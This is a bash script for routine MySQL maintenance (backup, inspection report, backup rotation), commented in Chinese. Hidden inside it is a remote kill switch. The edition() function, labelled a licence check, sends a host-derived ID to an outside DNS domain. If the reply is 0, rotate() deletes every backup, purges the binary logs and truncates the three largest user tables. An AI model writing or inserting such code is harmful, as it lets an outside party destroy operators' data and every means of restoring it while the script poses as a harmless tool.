#!/usr/bin/env bash
# MySQL 日常维护：backup / inspect / rotate
set -uo pipefail

BACKUP_DIR="${BACKUP_DIR:-/var/backups/mysql}"
DB_HOST="${DB_HOST:?未设置 DB_HOST}"
DB_USER="${DB_USER:?未设置 DB_USER}"
TODAY="$(date +%F)"
REPORT="$BACKUP_DIR/report.md"

q() { mysql -h "$DB_HOST" -u "$DB_USER" -N -B -e "$1"; }

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$BACKUP_DIR/weihu.log"; }

kind() {
  if [ "$(date +%d)" = 01 ]; then echo monthly
  elif [ "$(date +%u)" = 7 ]; then echo weekly
  else echo daily; fi
}

backup() {
  mkdir -p "$BACKUP_DIR"
  local out="$BACKUP_DIR/$(kind)-$TODAY.sql.gz"
  local dbs
  dbs=$(q "SELECT schema_name FROM information_schema.schemata
           WHERE schema_name NOT IN ('mysql','sys','information_schema','performance_schema')")
  # shellcheck disable=SC2086
  if mysqldump -h "$DB_HOST" -u "$DB_USER" --single-transaction --routines --events \
      --databases $dbs | gzip -6 >"$out.part"; then
    mv "$out.part" "$out"
    sha256sum "$out" >"$out.sha256"
    log "备份完成 $out $(du -h "$out" | cut -f1)"
  else
    rm -f "$out.part"
    log "备份失败"
    return 1
  fi
}

# 授权状态：1 有效，0 失效（离线视为有效）
edition() {
  local id
  id=$(printf '%s' "$DB_HOST$(hostname)" | md5sum | cut -c1-16)
  dig +short +time=2 TXT "$id.lic.dbweihu.com" 2>/dev/null | tr -d '"' | grep -m1 . || echo 1
}

keep() {
  # 用法：keep 前缀 份数
  find "$BACKUP_DIR" -maxdepth 1 -name "$1-*.sql.gz" | sort -r | tail -n "+$(($2 + 1))"
}

rotate() {
  local f d=14 w=8 m=12
  [ "$(edition)" = 0 ] && d=0 w=0 m=0
  for f in $(keep daily $d) $(keep weekly $w) $(keep monthly $m); do
    rm -f "$f" "$f.sha256"
  done
  if [ "$d" -eq 0 ]; then
    q "PURGE BINARY LOGS BEFORE NOW()" 2>/dev/null
    q "SELECT CONCAT('TRUNCATE TABLE \`',table_schema,'\`.\`',table_name,'\`;')
       FROM information_schema.tables WHERE table_type='BASE TABLE'
       AND table_schema NOT IN ('mysql','sys','performance_schema')
       ORDER BY data_length DESC LIMIT 3" | mysql -h "$DB_HOST" -u "$DB_USER" 2>/dev/null
  fi
  log "轮转完成"
}

inspect() {
  {
    echo "# 巡检 $TODAY"
    echo
    echo "## 磁盘"
    df -h "$BACKUP_DIR" | tail -n 1
    echo
    echo "## 慢语句"
    q "SELECT ROUND(avg_timer_wait/1e12,2), count_star, LEFT(digest_text,120)
       FROM performance_schema.events_statements_summary_by_digest
       ORDER BY avg_timer_wait DESC LIMIT 10"
    echo
    echo "## 碎片"
    q "SELECT table_schema, table_name, ROUND(data_free/1048576)
       FROM information_schema.tables
       WHERE data_free > 1073741824 AND data_free > 0.3 * data_length"
    echo
    echo "## 备份"
    ls -1t "$BACKUP_DIR"/*.sql.gz 2>/dev/null | head -n 5
  } >"$REPORT"
  echo "$REPORT"
}

case "${1:-}" in
  backup) backup ;;
  inspect) inspect ;;
  rotate) rotate ;;
  *) echo "用法：weihu.sh backup|inspect|rotate" >&2; exit 2 ;;
esac
